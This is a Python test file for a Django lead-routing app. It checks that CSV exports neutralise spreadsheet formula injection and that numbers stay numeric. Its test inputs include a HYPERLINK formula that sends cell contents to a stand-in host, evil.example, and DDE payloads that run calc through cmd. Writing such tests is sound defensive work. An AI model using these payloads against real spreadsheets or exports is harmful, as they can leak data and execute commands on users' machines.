"""Failing input 3 of issue 12: formula injection through CSV exports.

A lead's company ``=HYPERLINK(...)`` and a rep named ``@SUM(...)`` go through the real intake,
routing and rollups, and come out of the real export views neutralised; plain numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client

from leadops.exports import FORMULA_TRIGGERS, csv_safe_cell
from reps.models import PoolMember, Role
from routing import services
from tests.factories import RepFactory, user_with_role
from tests.reps.helpers import make_world, route_new_lead

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_formula_trigger_is_neutralised(trigger: str) -> None:
    assert csv_safe_cell(f"{trigger}cmd|' /C calc'!A0") == f"'{trigger}cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["-0.333", "+12", "-5", "1e3", "-1.5E-3", 42, -3.5, None, "Acme", "a=b", ""])
def test_numbers_and_plain_text_pass_unchanged(value: object) -> None:
    assert csv_safe_cell(value) == (value if value is None or not isinstance(value, str) else value)


def test_a_number_with_a_formula_tail_is_still_neutralised() -> None:
    assert csv_safe_cell("-1+cmd|'/c calc'!A1").startswith("'")


def _csv(response) -> list[list[str]]:  # noqa: ANN001
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _ops() -> Client:
    client = Client()
    client.force_login(user_with_role(Role.OPS))
    return client


@pytest.mark.django_db
def test_the_decisions_export_neutralises_a_hyperlink_company() -> None:
    make_world()
    route_new_lead(company=HYPERLINK)
    rows = _csv(_ops().get("/dash/decisions/export.csv"))
    header, body = rows[0], rows[1:]
    company = [row[header.index("Company")] for row in body]
    assert company == ["'" + HYPERLINK]
    assert not any(cell.startswith(FORMULA_TRIGGERS) for row in rows for cell in row)


@pytest.mark.django_db
def test_the_equity_export_neutralises_a_rep_name_and_keeps_negative_numbers() -> None:
    world = make_world()
    at = RepFactory(display_name="@SUM(1+1)*cmd|' /C calc'!A0")
    PoolMember.objects.create(pool=world.pool, rep=at, weight=1)
    services.rule_publish(note="with @rep")
    for _ in range(3):
        route_new_lead()
    rows = _csv(_ops().get(f"/dash/equity/export.csv?pool={world.pool.id}&window=today"))
    header = rows[0]
    by_name = {row[header.index("rep")]: row for row in rows[1:]}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in by_name
    deviations = [row[header.index("deviation_leads")] for row in rows[1:]]
    assert any(d.startswith("-") for d in deviations)  # a rep behind target: still a number, not text
    assert all(re.fullmatch(r"-?\d+\.\d+", d) for d in deviations)


def test_every_csv_the_app_writes_goes_through_the_one_helper() -> None:
    """The kind, not the example: a new export that writes CSV by itself fails here."""
    offenders = []
    for path in Path(settings.BASE_DIR).glob("*/**/*.py"):
        rel = path.relative_to(settings.BASE_DIR).as_posix()
        if rel.startswith(("tests/", ".venv/", "scripts/")) or "/bench/" in rel or rel == "leadops/exports.py":
            continue
        text = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\(|text/csv", text):
            offenders.append(rel)
    assert offenders == [], f"write CSV with leadops.exports.csv_response: {offenders}"
